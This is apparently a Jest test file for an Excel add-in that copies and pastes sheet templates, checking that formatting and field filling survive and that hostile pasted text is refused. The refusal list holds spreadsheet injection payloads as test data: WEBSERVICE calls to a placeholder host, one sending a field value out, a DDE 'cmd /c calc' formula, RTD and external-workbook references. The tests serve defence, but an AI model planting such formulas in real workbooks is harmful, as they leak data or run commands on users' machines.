import { actions } from "../../src/actions";
import { useAsTemplate } from "../../src/actions/mark-template";
import { copyTemplate, pasteTemplate } from "../../src/actions/template-text";
import { startHost, writeSheet, type HeadlessHost } from "./start-host";

jest.setTimeout(120_000);

let host: HeadlessHost | null = null;

afterEach(() => {
  host?.close();
  host = null;
});

/** What the copy of a template has to have, part by part. */
async function partsOf(sheetName: string): Promise<unknown> {
  return Excel.run(async (context) => {
    const sheet = context.workbook.worksheets.getItem(sheetName).load("showGridlines");
    const cells = sheet.getRange("A1:D6").load("formulas,numberFormat");
    const lines = cells.getCellProperties({
      format: {
        borders: { style: true, color: true, weight: true },
        fill: { color: true },
        font: { name: true, size: true, bold: true, color: true },
        horizontalAlignment: true,
        wrapText: true,
      },
    });
    const widths = ["A", "B", "C", "D"].map((letter) =>
      sheet.getRange(`${letter}1`).format.load("columnWidth"),
    );
    const list = sheet.getRange("D2").dataValidation.load("type,rule,prompt,errorAlert");
    const rules = sheet.getRange("A1:D6").conditionalFormats.load("items/type");
    const frozen = sheet.freezePanes.getLocationOrNullObject().load("address");
    const page = sheet.pageLayout.load("orientation,leftMargin,zoom");
    const titleRows = sheet.pageLayout.getPrintTitleRowsOrNullObject().load("address");
    const footers = sheet.pageLayout.headersFooters.defaultForAllPages.load("centerFooter");
    await context.sync();
    const rule = rules.items[0]?.custom.rule.load("formula");
    const area = rules.items[0]?.getRange().load("address");
    await context.sync();
    return {
      formulas: cells.formulas,
      numberFormats: cells.numberFormat,
      looks: lines.value,
      widths: widths.map(({ columnWidth }) => Math.round(columnWidth)),
      list: list.toJSON(),
      rule: rule?.formula,
      on: area?.address.split("!")[1],
      frozen: frozen.address.split("!")[1],
      page: [
        page.orientation,
        page.leftMargin,
        page.zoom,
        footers.centerFooter,
        titleRows.isNullObject ? null : titleRows.address.split("!").at(-1),
      ],
      gridlines: sheet.showGridlines,
    };
  });
}

async function makeTemplate(): Promise<void> {
  await writeSheet(host as HeadlessHost, "Our plan", [
    ["Plan of {{account.name}}", "", "", ""],
    ["Manager", "{{account.manager}}", "Since", "{{account.since}}"],
    ["{{#each contacts}}{{contact.name}}", "", "", "{{/each}}"],
    ["=of us", "", "", ""],
    ["Total", "=1+1", "", ""],
    ["={{account.score}}*10", "", "", ""],
  ]);
  await Excel.run(async (context) => {
    const sheet = context.workbook.worksheets.getItem("Our plan");
    sheet.getRange("B5").formulas = [["=1+1"]];
    const title = sheet.getRange("A1:D1");
    title.format.font.bold = true;
    title.format.font.size = 16;
    title.format.font.name = "Georgia";
    title.format.fill.color = "#112233";
    title.format.font.color = "#FFEEDD";
    sheet.getRange("A1").format.columnWidth = 150;
    sheet.getRange("D2").numberFormat = [["dd.mm.yyyy"]];
    for (const side of ["EdgeTop", "EdgeBottom", "InsideVertical"] as const) {
      const line = sheet.getRange("A2:D2").format.borders.getItem(side);
      line.style = "Continuous";
      line.color = "#AA0000";
    }
    sheet.getRange("D2:D3").dataValidation.rule = {
      list: { inCellDropDown: true, source: "Yes,No" },
    };
    sheet.getRange("D2:D3").dataValidation.prompt = {
      title: "Say",
      message: "Yes or no",
      showPrompt: true,
    };
    const rule = sheet.getRange("B2:B5").conditionalFormats.add("Custom").custom;
    rule.rule.formula = '=B2="Dana"';
    rule.format.fill.color = "#FFCC00";
    sheet.freezePanes.freezeRows(1);
    sheet.showGridlines = false;
    sheet.pageLayout.orientation = "Landscape";
    sheet.pageLayout.leftMargin = 20;
    sheet.pageLayout.setPrintTitleRows("$1:$1");
    sheet.pageLayout.zoom = { horizontalFitToPages: 1 };
    sheet.pageLayout.headersFooters.defaultForAllPages.centerFooter = "Internal";
    await context.sync();
  });
}

test("a template that a colleague pastes would look, ask or print otherwise, or fill nothing", async () => {
  host = await startHost({ calculates: false });
  await makeTemplate();
  await useAsTemplate("Our plan");
  const before = await partsOf("Our plan");
  const { text } = await copyTemplate("Our plan");
  host.close();
  host = await startHost({ calculates: false });
  await writeSheet(
    host,
    "Accounts",
    [
      ["Account", "Account manager"],
      ["Alder", "Dana"],
      ["Birch", "Eli"],
    ],
    "Accounts",
  );
  const made = await pasteTemplate(text);
  expect(made.sheetName).toBe("Our plan");
  expect(before).toMatchObject({
    page: expect.arrayContaining([expect.stringMatching(/1:\$?1$/u)]),
  });
  expect(await partsOf("Our plan")).toEqual(before);
  const own = (await actions.listTemplates("plans")).find(({ name }) => name === "Our plan");
  const plan = await actions.createAccountPlan("Alder", { template: own?.id ?? "" });
  await Excel.run(async (context) => {
    const cells = context.workbook.worksheets
      .getItem(plan.sheetName)
      .getRange("A1:B4")
      .load("values");
    await context.sync();
    expect(cells.values).toEqual([
      ["Plan of Alder", ""],
      ["Manager", "Dana"],
      ["", ""],
      ["=of us", ""],
    ]);
  });
  await actions.takeBack(made);
  expect((await actions.listTemplates("plans")).map(({ name }) => name)).not.toContain("Our plan");
});

test("a hostile text would become a sheet", async () => {
  host = await startHost({ calculates: false });
  await makeTemplate();
  const { text, notCarried } = await copyTemplate("Our plan");
  expect(notCarried).toContain("Pictures and drawings, if there are any, will be missing.");
  const good = JSON.parse(text) as { cells: unknown[] };
  const withCell = (content: unknown) =>
    JSON.stringify({ ...good, cells: [...good.cells, { row: 9, column: 0, content }] });
  const sheets = async () =>
    Excel.run(async (context) => {
      const all = context.workbook.worksheets.load("items/name");
      await context.sync();
      return all.items.map(({ name }) => name);
    });
  const stood = await sheets();
  const refused: readonly (readonly [text: string, why: RegExp])[] = [
    ["Dear colleague, here is it", /paste all of the text/u],
    [text.slice(0, -40), /paste all of the text/u],
    [JSON.stringify({ ...good, version: 2 }), /version/u],
    [JSON.stringify({ ...good, macro: "x" }), /macro/u],
    [withCell({ formula: '=WEBSERVICE("http://x")' }), /A10 calls WEBSERVICE/u],
    [withCell({ formula: "=_xlfn.WEBSERVICE(A1)" }), /A10 calls WEBSERVICE/u],
    [withCell({ formula: '=hyperlink("http://x","y")' }), /A10 calls HYPERLINK/u],
    [withCell({ formula: "='C:\\[book.xlsx]Sheet'!A1" }), /A10 names another workbook/u],
    [withCell({ formula: "=Accounts!A1" }), /A10 names another sheet/u],
    [withCell({ formula: "=cmd|'/c calc'!A0" }), /A10 names another sheet/u],
    [withCell('=WEBSERVICE("http://x/"&{{account.name}})'), /A10 calls WEBSERVICE/u],
    [withCell("{{account.nam}}"), /There is no field 'account.nam'/u],
    [
      JSON.stringify({
        ...good,
        conditionalFormats: [{ range: "A1", kind: "custom", formula: "=RTD(1)" }],
      }),
      /calls RTD/u,
    ],
    [JSON.stringify({ ...good, merges: ["A1:XFD1048576"] }), /merges/u],
  ];
  for (const [pasted, why] of refused) await expect(pasteTemplate(pasted)).rejects.toThrow(why);
  expect(await sheets()).toEqual(stood);
  // A text that looks like a formula and asks for no field stays a text.
  const made = await pasteTemplate(withCell('=HYPERLINK("http://x")'));
  await Excel.run(async (context) => {
    const cell = context.workbook.worksheets.getItem(made.sheetName).getRange("A10");
    cell.load("values,formulas");
    await context.sync();
    expect(cell.values).toEqual([['=HYPERLINK("http://x")']]);
    const total = context.workbook.worksheets.getItem(made.sheetName).getRange("B5").load("values");
    await context.sync();
    expect(total.values).toEqual([[2]]);
  });
});
